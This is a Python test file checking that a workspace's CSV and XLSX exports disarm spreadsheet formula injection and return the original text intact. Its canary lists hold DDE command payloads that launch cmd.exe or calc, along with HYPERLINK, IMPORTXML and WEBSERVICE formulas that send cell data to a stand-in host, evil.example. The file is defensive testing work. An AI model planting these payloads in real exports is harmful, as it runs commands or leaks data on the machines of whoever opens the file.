"""Must hold 6: prefixes by which foreign text becomes a formula are dead in every CSV and XLSX that is written, and come back as they were."""

from __future__ import annotations

import csv
import io
import re
import time
import unicodedata
import zipfile
from collections.abc import Callable
from typing import TYPE_CHECKING, Any

import pytest
from openpyxl import load_workbook

from assay.documents.cells import csv_text, guarded, guarded_in_csv, unguarded, write_cell
from assay_web.exports import defused, exported, restored

if TYPE_CHECKING:
    from django.test import Client

PREFIXES = [
    "=", "+", "-", "@", "\t", "\r", "\n",
    "＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫", "−",
    "==", "=+", "=-", "+-", "-+", "@@", "+=", "-=", "@=",
    "\t=", "\r=", "\n=", "\r\n=", "\n\n+", "\t \t-", "\v=", "\f=", "\x00=", "\x1b=", "\x85=", "\x7f=",
    " =", "   +", " -", "  @", "\u00a0=", "\u00a0 @", "\u1680=", "\u2003+", "\u2009-", "\u202f=", "\u205f@", "\u3000=", "\u3000＝",
    "\ufeff=", "\ufeff\ufeff+", "\u200b=", "\u200c-", "\u200d@", "\u2060=", "\u00ad=", "\u180e=", "\u034f=", "\u115f=", "\u3164=", "\u2800=", "\ufe0f=",
    "\u2028=", "\u2029=", "\u202e=", "\u200e+", "\u2066=", "\U000e0020=",
    "'=", "''=", "' =", '"=', '""=', "\"'+", '" @', "'\t=", "'＝",
    ";=", "; =", ";\u00a0+", "x;=", "x;-", "x;\"=", "x\t=", "x\n=", "x\r\n@", "x\n\u200b=", "x;'=", "x\n\n＝", ";;;=", "x;y;+", "',;=", "\",=",
]  # fmt: skip
FORMULAS = [
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.example?x="&A1,"a")',
    "1+1",
    "SUM(1,1)*cmd|'/c x'!A1",
]
CANARIES = [prefix + FORMULAS[at % len(FORMULAS)] for at, prefix in enumerate(PREFIXES)] + [
    "=cmd|' /C notepad'!'A1'", "=DDE(\"cmd\";\"/C calc\";\"x\")", "@SUM(1+9)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "+thespanishinquisition(cmd|' /C calc'!A", '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")', "=WEBSERVICE(\"http://evil.example\")",
    "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe'!''", "=rundll32|'URL.dll,OpenURL x'!A",
]  # fmt: skip
HARMLESS = [
    "",
    "plain",
    "a=b",
    "a - b",
    "3-2",
    "it's",
    "'quoted'",
    "x; y",
    "first\nsecond",
    "a@northwind.example",
    "'",
    "''",
    ";",
]
ACTING = "=+-@\t\r\n＝＋－＠﹦﹢﹣﹫−"


def _is_dead(cell: str, acting: str = ACTING) -> bool:
    """Say whether a cell begins with nothing that acts once everything blank, invisible or a text delimiter before it is taken away.

    An apostrophe is what a spreadsheet shows as nothing and takes for the mark of a text, so it ends the search.
    """
    rest = cell
    while rest and rest[0] not in acting and (rest[0] == '"' or _is_unseen(rest[0])):
        rest = rest[1:]
    return not rest or rest[0] not in acting


def live_cells(text: str) -> list[str]:
    """Give the cells of a CSV that act: the written ones, and those of programs that split at semicolons or tabs, where tabs and line ends are blanks."""
    strict = [one for one in _cells(text, ",") if not _is_dead(one)]
    signs = ACTING.translate({ord(one): None for one in "\t\r\n"})
    return strict + [
        one for delimiter in ";\t" for one in _cells(text, delimiter) if not _is_dead(one, signs)
    ]


def _is_unseen(character: str) -> bool:
    return (
        character.isspace()
        or unicodedata.category(character) in {"Cc", "Cf", "Zs", "Zl", "Zp"}
        or character in "\u034f\u115f\u1160\u2800\u3164\uffa0\ufe0f"
    )


def _cells(text: str, delimiter: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in row]


def formulas_of(book: bytes) -> list[str]:
    """Give every element of a workbook's sheets that makes a cell act: formulas, links, and cells that hold neither text nor number."""
    with zipfile.ZipFile(io.BytesIO(book)) as parts:
        sheets = [parts.read(one).decode() for one in parts.namelist() if "worksheets/" in one]
        assert sheets
        assert not [one for one in parts.namelist() if "externalLink" in one or "vba" in one.lower()]
    found = [one for sheet in sheets for one in re.findall(r"<f[ >/]|<hyperlink|<ddeLink|<oleLink", sheet)]
    return found + [
        kind for sheet in sheets for kind in re.findall(r'<c [^>]*t="([^"]*)"', sheet) if kind != "s"
    ]


def test_there_are_at_least_60_prefixes() -> None:
    assert len(set(PREFIXES)) == len(PREFIXES) >= 60


def test_the_test_knows_a_live_cell() -> None:
    assert [_is_dead(one) for one in ("=1", " \ufeff=1", '"+1', "'=1", "a=1", "")] == [False] * 3 + [True] * 3


@pytest.mark.parametrize("write", ["workspace", "report"])
def test_no_cell_of_a_csv_acts_however_a_program_splits_it(write: str) -> None:
    rows = [("id-1", one, one + "\u00a0") for one in CANARIES]
    if write == "workspace":
        text = exported("x", "csv", CANARIES[:3], rows).content.decode("utf-8-sig")
    else:
        text = csv_text([CANARIES[:3], *rows])
    assert len(_cells(text, ",")) == 3 * len(CANARIES) + 3
    assert live_cells(text) == []


def test_what_the_workspace_writes_as_csv_is_whole() -> None:
    rows = [(str(at), one) for at, one in enumerate(CANARIES + HARMLESS)]
    text = exported("x", "csv", ("number", "text"), rows).content.decode("utf-8-sig")
    read = list(csv.reader(io.StringIO(text, newline="")))[1:]
    assert [(number, restored(one)) for number, one in read] == rows


@pytest.mark.parametrize("write", ["workspace", "report"])
def test_no_cell_of_a_workbook_is_a_formula_or_a_link(write: str) -> None:
    canaries = [one for one in CANARIES if not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", one)]
    book = _book(write, canaries)
    assert formulas_of(book) == []
    [sheet] = load_workbook(io.BytesIO(book)).worksheets
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert len(cells) == 2 * len(canaries)
    assert {cell.data_type for cell in cells} <= {"s", "n"}
    assert [cell.value for cell in cells if isinstance(cell.value, str) and not _is_dead(cell.value)] == []
    assert not any(cell.hyperlink for cell in cells)


def test_characters_that_xml_cannot_hold_make_no_formula_either() -> None:
    for write in ("workspace", "report"):
        assert formulas_of(_book(write, CANARIES)) == []


def _book(write: str, canaries: list[str]) -> bytes:
    if write == "workspace":
        (first, *_), rest = canaries, canaries[1:]
        return exported("x", "xlsx", (first, first), [(one, one) for one in rest]).content
    import xlsxwriter

    written = io.BytesIO()
    with xlsxwriter.Workbook(written, {"in_memory": True}) as book:  # even where the options allow formulas
        sheet = book.add_worksheet()
        for row, one in enumerate(canaries):
            for column in (0, 1):
                write_cell(sheet, row, column, one)
    return written.getvalue()


@pytest.mark.parametrize("wrap", [list, tuple])
def test_lists_and_dictionaries_are_texts_too(wrap: Callable[[Any], Any]) -> None:
    for one in CANARIES:
        values: list[Any] = [wrap([one]), wrap(["a", one]), {one: one}]
        text = exported("x", "csv", ("a", "b", "c"), [values]).content.decode("utf-8-sig")
        assert live_cells(text) == []


def test_what_is_defused_comes_back_as_it_was() -> None:
    for one in CANARIES + HARMLESS:
        for written in (str(defused(one)), guarded(one), guarded_in_csv(one)):
            assert restored(written) == one
            assert restored(str(defused(written))) == written
            assert restored(guarded_in_csv(written)) == written


def test_harmless_texts_stay_as_they_are() -> None:
    assert [guarded(one) for one in HARMLESS] == HARMLESS
    assert [guarded_in_csv(one) for one in HARMLESS] == HARMLESS
    assert guarded("Steps:\n- one\n- two") == "Steps:\n- one\n- two"
    assert [defused(one) for one in (7, -7, True, None)] == [7, -7, "yes", ""]


def test_every_short_text_of_acting_and_quiet_characters_comes_back() -> None:
    from itertools import product

    for letters in product("'=\n; \ta\"", repeat=5):
        text = "".join(letters)
        assert unguarded(guarded(text)) == text == unguarded(guarded_in_csv(text))


@pytest.mark.parametrize("piece", [" ", "\t", "\n", ";", "'", "; ", "\n'", " \t", "\u200b;"])
def test_a_long_run_of_blanks_is_read_once(piece: str) -> None:
    """A guard that looked through the same run from each of its places would take minutes here."""
    long = piece * (400_000 // len(piece))
    spent = -time.process_time()
    assert unguarded(guarded_in_csv(long)) == long
    spent += time.process_time()
    assert spent < 20


def test_canaries_typed_into_the_workspace_are_dead_in_its_exports(
    signed_in: Callable[[str], Client],
) -> None:
    lead = signed_in("lead")
    told = [one for one in CANARIES if one == one.strip() and "\x00" not in one][:12]
    for one in told:
        answer = lead.post("/tasks/new/", {"what": one, "why": one})
        assert answer.status_code == 302, one
    exports = {form: lead.get(f"/tasks/?export={form}").content for form in ("csv", "xlsx")}
    assert live_cells(exports["csv"].decode("utf-8-sig")) == []
    assert formulas_of(exports["xlsx"]) == []
    read = {restored(one) for one in _cells(exports["csv"].decode("utf-8-sig"), ",")}
    assert set(told) <= read
